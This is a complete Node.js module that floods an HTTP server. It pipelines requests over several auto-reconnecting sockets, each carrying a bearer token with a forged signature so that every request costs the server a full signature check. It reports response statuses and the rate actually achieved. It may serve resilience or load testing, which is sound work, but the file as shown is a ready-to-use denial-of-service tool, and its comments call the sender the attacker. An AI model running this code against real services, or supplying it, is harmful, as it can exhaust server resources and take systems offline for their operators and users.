/** Sends forged tokens at a fixed rate over a few sockets, pipelined, without waiting for responses. */

const { connect } = require('node:net')
const { setTimeout: pause } = require('node:timers/promises')

const TICK_MS = 2
/** A socket with this many unsent bytes gets no requests. If no socket is ready, the attacker skips requests. */
const MAX_UNSENT_BYTES = 2 ** 18
const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
/** Number of signature characters that may differ between two requests. */
const COUNTER_LENGTH = 8
const STATUS_LINE = 'HTTP/1.1 '

/** @type {Socket[]} */
let sockets = []

/**
 * @typedef {object} Attack
 * @property {string} url
 * @property {string} token - A valid token. Each request gets a different forged signature, which is as expensive to
 * check as a valid one.
 * @property {number} rate - Requests per second.
 * @property {number} seconds
 * @property {number} connections
 * @property {number} [backlog] - Maximum number of requests without a response, unlimited by default. The kernel's
 * socket buffers hold tens of thousands of requests, which reach the server even after the flood.
 */

/** @param {Attack} attack */
async function attack({ url, token, rate, seconds, connections, backlog = Number.POSITIVE_INFINITY }) {
  const { hostname, port, host } = new URL(url)
  const request = Buffer.from(`GET / HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n\r\n`, 'latin1')
  sockets = Array.from({ length: connections }, () => new Socket(hostname, Number(port), backlog / connections))
  await Promise.all(sockets.map(({ isConnected }) => isConnected))

  const start = performance.now()
  let [scheduled, skipped, counter, turn] = [0, 0, Math.floor(Math.random() * 2 ** 40), 0]
  for (let elapsed = 0; elapsed < seconds * 1000; elapsed = performance.now() - start) {
    const due = Math.floor((elapsed / 1000) * rate) - scheduled
    scheduled += due
    // If the process was not scheduled for a while, the requests due in the meantime are not sent in a burst.
    const count = Math.min(due, Math.ceil(rate / 20))
    skipped += due - count
    const socket = nextSocket(turn)
    turn += 1
    if (socket === undefined) skipped += count
    else if (count > 0) socket.send(forgeRequests(request, count, counter), count)
    counter += count
    await pause(TICK_MS)
  }
  const milliseconds = performance.now() - start
  for (const socket of sockets) {
    socket.isReconnecting = false
    // Requests that are still unsent would be sent too late, so they count as skipped.
    skipped += Math.floor(socket.unsentBytes / request.length)
  }
  return { scheduled, sentPerSecond: ((scheduled - skipped) / milliseconds) * 1000 }
}

/** @param {number} turn */
function nextSocket(turn) {
  const ready = (/** @type {Socket} */ socket) => socket.isReady
  const from = turn % sockets.length
  return sockets.slice(from).find(ready) ?? sockets.slice(0, from).find(ready)
}

/**
 * @param {Buffer} request
 * @param {number} count
 * @param {number} counter
 */
function forgeRequests(request, count, counter) {
  const end = request.length - '\r\n\r\n'.length
  const requests = Buffer.allocUnsafe(count * request.length)
  for (let i = 0; i < count; i += 1) {
    const offset = i * request.length
    request.copy(requests, offset)
    let rest = counter + i
    for (let position = end - COUNTER_LENGTH; position < end; position += 1) {
      requests[offset + position] = ALPHABET.charCodeAt(rest % ALPHABET.length)
      rest = Math.floor(rest / ALPHABET.length)
    }
  }
  return requests
}

/**
 * Returns the number of responses by status, of closed connections, and of unanswered requests.
 *
 * @returns {{ statuses: Record<string, number>, closed: number, unanswered: number }}
 */
function answers() {
  /** @type {Record<string, number>} */
  const statuses = {}
  for (const socket of sockets) {
    for (const [status, count] of socket.statuses) statuses[status] = (statuses[status] ?? 0) + count
  }
  const sum = (/** @type {'closings' | 'unanswered'} */ kind) =>
    sockets.reduce((total, socket) => total + socket[kind], 0)
  return { statuses, closed: sum('closings'), unanswered: sum('unanswered') }
}

function disconnect() {
  for (const socket of sockets) socket.close()
}

/** A connection that reconnects if the server closes it. */
class Socket {
  isReconnecting = true
  closings = 0
  unanswered = 0
  /** @type {Map<string, number>} */
  statuses = new Map()
  #address
  #maxUnanswered
  #socket
  #rest = Buffer.alloc(0)

  /** @param {string} host @param {number} port @param {number} maxUnanswered */
  constructor(host, port, maxUnanswered) {
    this.#address = { host, port, noDelay: true }
    this.#maxUnanswered = maxUnanswered
    this.#socket = this.#connect()
    this.isConnected = new Promise((resolve) => this.#socket.once('connect', resolve))
  }

  #connect() {
    const socket = connect(this.#address)
    socket.on('data', (chunk) => this.#count(chunk))
    socket.on('error', () => {})
    socket.on('close', () => {
      this.closings += 1
      this.unanswered = 0
      this.#rest = Buffer.alloc(0)
      if (this.isReconnecting) this.#socket = this.#connect()
    })
    return socket
  }

  get isReady() {
    return this.#socket.writable && this.unsentBytes < MAX_UNSENT_BYTES && this.unanswered < this.#maxUnanswered
  }

  get unsentBytes() {
    return this.#socket.writableLength
  }

  /** @param {Buffer} requests @param {number} count */
  send(requests, count) {
    this.#socket.write(requests)
    this.unanswered += count
  }

  close() {
    this.#socket.destroy()
  }

  /** Counts the status lines in a chunk of response data. @param {Buffer} chunk */
  #count(chunk) {
    const text = this.#rest.length === 0 ? chunk : Buffer.concat([this.#rest, chunk])
    const statusLength = STATUS_LINE.length + 3
    let end = 0
    for (let at = text.indexOf(STATUS_LINE); at !== -1; at = text.indexOf(STATUS_LINE, end)) {
      if (at + statusLength > text.length) break
      end = at + statusLength
      const status = text.toString('latin1', at + STATUS_LINE.length, end)
      this.statuses.set(status, (this.statuses.get(status) ?? 0) + 1)
      this.unanswered -= 1
    }
    // The last status line of a chunk may continue in the next chunk.
    this.#rest = Buffer.from(text.subarray(Math.max(end, text.length - statusLength + 1)))
  }
}

module.exports = { answers, attack, disconnect }
